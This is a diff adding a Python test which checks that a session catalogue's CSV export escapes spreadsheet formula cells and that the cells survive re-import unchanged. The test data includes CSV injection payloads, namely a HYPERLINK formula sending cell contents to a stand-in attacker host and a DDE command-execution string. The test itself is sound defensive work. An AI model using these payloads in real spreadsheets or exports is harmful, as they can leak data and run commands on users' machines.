@@ -262,6 +262,45 @@ def test_the_csv_round_trip_keeps_everything_but_the_speakers_details(tmp_path, 
     assert after == before
 
 
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "speaker": "=1+1",
+    "tags": ["+SUM(1+1)", "-2+3", "@SUM(1)"],
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_read_back_as_given(
+    tmp_path,
+):
+    session = SessionFactory(
+        key="=cmd|' /C calc'!A0",
+        title=FORMULAS["title"],
+        topic=TopicFactory(name="'90s internet"),
+        tags=[TagFactory(name=name) for name in FORMULAS["tags"]],
+    )
+    # A name only: CSV carries no more of a speaker.
+    speaker = SpeakerFactory(name=FORMULAS["speaker"], organisation="", stakeholder_group="")
+    ParticipantFactory(session=session, speaker=speaker)
+    before = catalogue()
+    path = tmp_path / "catalogue.csv"
+    export(path)
+
+    with path.open(encoding="utf-8-sig", newline="") as exported_file:
+        [row] = list(csv.DictReader(exported_file))
+    assert row["key"] == "'=cmd|' /C calc'!A0"
+    assert row["title"] == "'" + FORMULAS["title"]
+    assert row["speakers"] == "'=1+1"
+    assert row["tags"] == "'+SUM(1+1);-2+3;@SUM(1)"
+    # A cell that starts with the mark itself gets one more, so it reads back as given.
+    assert row["topic"] == "''90s internet"
+    # No cell begins with what a spreadsheet runs.
+    assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    empty_the_catalogue()
+    call_command("import_sessions", str(path), stdout=StringIO(), stderr=StringIO())
+    assert catalogue() == before
+
+
 def test_export_fields_are_exactly_the_fields_the_importer_reads():
     assert set(EXPORT_FIELDS) == set(KNOWN_FIELDS)
 
